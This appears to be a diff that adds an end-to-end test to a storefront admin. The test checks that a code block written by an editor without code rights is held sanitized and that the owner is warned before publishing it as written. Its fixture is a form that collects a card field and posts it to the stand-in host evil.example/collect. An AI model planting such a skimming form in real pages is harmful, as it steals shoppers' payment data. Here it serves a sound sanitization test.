@@ -61,6 +61,42 @@ test('the owner edits a code block and the storefront page shows it', async ({ p
   await expect(page.locator('.code-block .hours')).toHaveText('Open every day, nine to five.');
 });
 
+test('a block a writer without code rights wrote is held sanitized; the owner is told, and publishes it as written after confirming', async ({
+  browser,
+  demo,
+  page,
+}) => {
+  const writer = await browser.newPage({ baseURL: demo.url });
+  await signInThroughApi(writer, 'editor@example.com');
+  await openAdmin(writer, '/config/content');
+  await writer.getByRole('button', { name: 'Add code block' }).click();
+  await retype(
+    writer,
+    '<p class="held">Held</p><form class="collect" action="https://evil.example/collect"><input aria-label="Card"></form>',
+  );
+  await writer.getByRole('button', { name: 'Save', exact: true }).click();
+  await expect(writer.getByRole('status')).toContainText('Block added.');
+  await writer.close();
+
+  await signInThroughApi(page, 'owner@example.com');
+  await openAdmin(page, '/config/content');
+  await page
+    .getByRole('button', { name: /^Edit Code block/ })
+    .last()
+    .click();
+  const note = page.getByRole('note');
+  await expect(note).toContainText(CODE_BLOCK_MESSAGES.heldSanitized);
+  expect(await accessibilityViolations(page)).toEqual([]);
+  await note.getByRole('button', { name: CODE_BLOCK_MESSAGES.publishLabel }).click();
+  const dialog = page.getByRole('dialog', { name: 'Publish this block as written?' });
+  await dialog.getByRole('button', { name: CODE_BLOCK_MESSAGES.publishLabel }).click();
+  await expect(page.getByRole('status')).toContainText('Block saved.');
+
+  await page.goto('/studio');
+  await settle(page);
+  await expect(page.locator('.code-block form.collect')).toHaveAttribute('action', 'https://evil.example/collect');
+});
+
 test('a writer without code rights is told the script is removed', async ({ page }) => {
   await signInThroughApi(page, 'editor@example.com');
   await openAdmin(page, '/config/content');
